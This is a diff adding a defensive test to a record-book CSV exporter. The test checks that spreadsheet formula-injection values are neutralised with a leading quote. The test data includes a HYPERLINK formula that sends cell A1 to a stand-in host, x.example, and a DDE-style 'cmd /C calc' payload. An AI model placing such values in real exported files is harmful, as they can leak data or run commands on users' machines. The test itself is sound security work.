@@ -47,3 +47,15 @@ def test_the_printable_document_escapes_what_users_typed_and_prints_landscape() 
     assert "<script>" not in html and "&lt;script&gt;" in html
     assert "@page { size: A4 landscape" in html and "@media print" in html
     assert "<td>Mâu thuẫn hàng xóm</td><td>1</td><td>1</td>" in html
+
+
+def test_csv_neutralises_cells_that_a_spreadsheet_would_run_as_formulas() -> None:
+    hostile = {**BOOK["part_i"][0], "parties": "=HYPERLINK(\"http://x.example/?\"&A1,\"Bình\"); Cường",
+               "content": "+cmd|' /C calc'!A0", "agreement_or_demands": "-2+3", "mediators_and_invitees": "@SUM(1)",
+               "notes": "\tghi chú", "result": "\r=1"}
+    book = {**BOOK, "part_i": [hostile], "part_ii": {**BOOK["part_ii"], "by_mediator": []}}
+    rows = list(csv.reader(io.StringIO(recordbook.to_csv(book).lstrip("\ufeff"))))
+    row = dict(zip([key for key, _ in recordbook.PART_I_COLUMNS], rows[1], strict=True))
+    for key in ("parties", "content", "agreement_or_demands", "mediators_and_invitees", "notes", "result"):
+        assert row[key] == "'" + hostile[key]  # neutralised, and otherwise intact
+    assert row["stt"] == "1" and ["received", "1"] in rows  # numbers stay numbers
